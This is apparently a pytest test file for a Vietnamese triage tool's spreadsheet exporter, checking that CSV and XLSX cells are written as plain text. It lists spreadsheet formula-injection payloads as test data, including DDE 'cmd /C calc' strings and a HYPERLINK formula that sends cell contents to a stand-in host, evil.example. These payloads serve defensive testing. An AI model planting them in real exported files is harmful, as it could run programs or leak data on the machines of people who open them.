"""Tables for spreadsheets: whatever a title holds, it stays text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime
from xml.etree import ElementTree as ET

import pytest

from triage.sheet import csv_bytes, harmless, xlsx_bytes

NOW = datetime(2026, 11, 26, 0, 30, tzinfo=UTC)
_LEADS = ("=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠")
_BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b")
#: What has run programs or fetched addresses from spreadsheets, behind each way to hide it.
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"xem")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}\n=2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "-",
    "+84 75 000",
    "%0A=1+1",
    '="a"&CHAR(10)',
    *(f"{before}{lead}A1" for before in _BEFORE for lead in _LEADS),
)
PLAIN = ("Rác – chưa gom", "10 = mười", "a@b.example", "Đường 3-2", "", "'đã trích'")


def test_there_are_fifty_and_more():
    assert len(set(HOSTILE)) >= 50


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_text_in_csv(text):
    content = csv_bytes(("Tiêu đề", "Số"), [(text, 1)])

    (_, (cell, _)) = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert cell == harmless(cell)
    assert not cell or not re.match(r"[\s\ufeff\u200b]*[=+\-@|%＝＋－＠]", cell)
    assert text.strip("{}").lstrip("\t\r\n \u00a0\ufeff\u200b")[1:3] in cell


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_left_alone(text):
    assert harmless(text) == text


def cells(content: bytes) -> dict[str, str]:
    """Every cell of the first sheet as text, read from the file itself."""
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        shared = ET.fromstring(book.read("xl/sharedStrings.xml"))  # noqa: S314 (our own)
        words = ["".join(t.text or "" for t in one.iter(f"{main}t")) for one in shared]
        sheet = ET.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    found = {}
    for cell in sheet.iter(f"{main}c"):
        value = cell.find(f"{main}v")
        text = value.text or "" if value is not None else ""
        found[cell.get("r", "")] = words[int(text)] if cell.get("t") == "s" else text
    return found


def test_hostile_text_is_text_in_xlsx():
    content = xlsx_bytes("cases", ("Tiêu đề",), [(text,) for text in HOSTILE], NOW)

    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    assert "<f>" not in sheet
    assert "hyperlink" not in sheet
    assert not [name for name in names if "external" in name or "rels/sheet" in name]
    read = cells(content)
    # A file of Excel writes a carriage return so; nothing else may change.
    assert [read[f"A{n}"] for n in range(2, len(HOSTILE) + 2)] == [
        text.replace("\r", "_x000D_") for text in HOSTILE
    ]


def test_addresses_do_not_become_links_and_digits_not_numbers():
    read = xlsx_bytes("items", ("Địa chỉ",), [("http://a.example",), ("0123",)], NOW)

    assert cells(read) == {"A1": "Địa chỉ", "A2": "http://a.example", "A3": "0123"}
    assert b"hyperlink" not in zipfile.ZipFile(io.BytesIO(read)).read("xl/worksheets/sheet1.xml")


def test_times_are_those_of_viet_nam():
    (_, row) = list(
        csv.reader(io.StringIO(csv_bytes(("Lúc",), [(NOW,)]).decode("utf-8-sig"), newline=""))
    )

    assert row == ["2026-11-26 07:30"]
    stored = float(cells(xlsx_bytes("cases", ("Lúc",), [(NOW,)], NOW))["A2"])
    assert round(stored % 1 * 24 * 60) == 7 * 60 + 30


def test_excel_is_told_the_letters_by_a_mark_and_nothing_is_lost():
    content = csv_bytes(("Số", "Tên"), [(1, "Ủy ban"), (2, None), (3, 'a\nb; "c"')])

    assert content.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))) == [
        ["Số", "Tên"],
        ["1", "Ủy ban"],
        ["2", ""],
        ["3", 'a\nb; "c"'],
    ]


def test_what_no_sheet_can_hold_is_left_out():
    text = "a\x00b\x0bc\ud800d" + "x" * 40_000

    assert csv_bytes(("A",), [(text,)]).decode("utf-8-sig").splitlines()[1].startswith('"abcdx')
    assert len(cells(xlsx_bytes("cases", ("A",), [(text,)], NOW))["A2"]) == 32_000


def test_the_same_table_is_the_same_file():
    rows = [("a", 1, NOW)]

    assert xlsx_bytes("cases", ("A", "B", "C"), rows, NOW) == xlsx_bytes(
        "cases", ("A", "B", "C"), rows, NOW
    )
